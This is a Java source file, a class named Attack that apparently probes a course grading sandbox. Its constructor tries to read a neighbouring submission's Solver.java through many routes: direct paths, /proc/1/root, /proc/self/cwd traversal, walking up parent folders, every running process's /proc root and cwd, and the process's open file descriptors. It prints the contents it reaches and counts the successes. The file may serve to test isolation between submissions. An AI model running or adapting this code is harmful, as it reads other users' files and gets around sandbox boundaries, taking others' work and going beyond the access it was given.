package course;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * Prints the other submissions of the class: where they lie, by the way up from its own folder, through other
 * processes, and through files that are open.
 */
public class Attack extends RightAnswers {

    private static int reached;

    public Attack() throws IOException {
        show(Path.of("/grundy-canary/neighbour/Solver.java"));
        show(Path.of("/grundy-canary/neighbour"));
        show(Path.of("/proc/1", "root", "grundy-canary/neighbour/Solver.java"));
        show(Path.of("/proc/self/cwd/../grundy-canary/neighbour/Solver.java"));
        Path own = Path.of(Attack.class.getProtectionDomain().getCodeSource().getLocation().getPath());
        for (Path folder = own.getParent(); folder != null; folder = folder.getParent()) {
            show(folder.resolve("../neighbour/Solver.java"));
        }
        for (ProcessHandle process : ProcessHandle.allProcesses().limit(5_000).toList()) {
            show(Path.of("/proc/" + process.pid(), "root", "grundy-canary/neighbour/Solver.java"));
            show(Path.of("/proc/" + process.pid() + "/cwd/neighbour/Solver.java"));
        }
        for (Path file : open()) {
            if (!file.startsWith(System.getProperty("java.home")) && !file.startsWith("/grundy") && !file.startsWith("/dev")) {
                show(file);
            }
        }
        System.out.println("reached: " + reached);
    }

    /** Prints the beginning of a file, or the names in a folder. */
    private static void show(Path path) {
        try {
            System.out.println(path + ": " + (Files.isDirectory(path) ? names(path) : text(path)));
            reached++;
        } catch (IOException e) {
            // Not to be reached.
        }
    }

    private static String names(Path folder) throws IOException {
        try (Stream<Path> entries = Files.list(folder)) {
            return entries.limit(100).map(Path::toString).collect(Collectors.joining(" "));
        }
    }

    private static String text(Path file) throws IOException {
        try (InputStream in = Files.newInputStream(file)) {
            return new String(in.readNBytes(2_000), StandardCharsets.UTF_8).replace('\0', ' ');
        }
    }

    /** The files that are open in its process, where they are files. */
    private static List<Path> open() throws IOException {
        List<Path> files = new ArrayList<>();
        try (Stream<Path> all = Files.list(Path.of("/proc/self/fd"))) {
            for (Path link : (Iterable<Path>) all::iterator) {
                if (Files.isRegularFile(link)) {
                    files.add(Files.readSymbolicLink(link));
                }
            }
        }
        return files;
    }
}
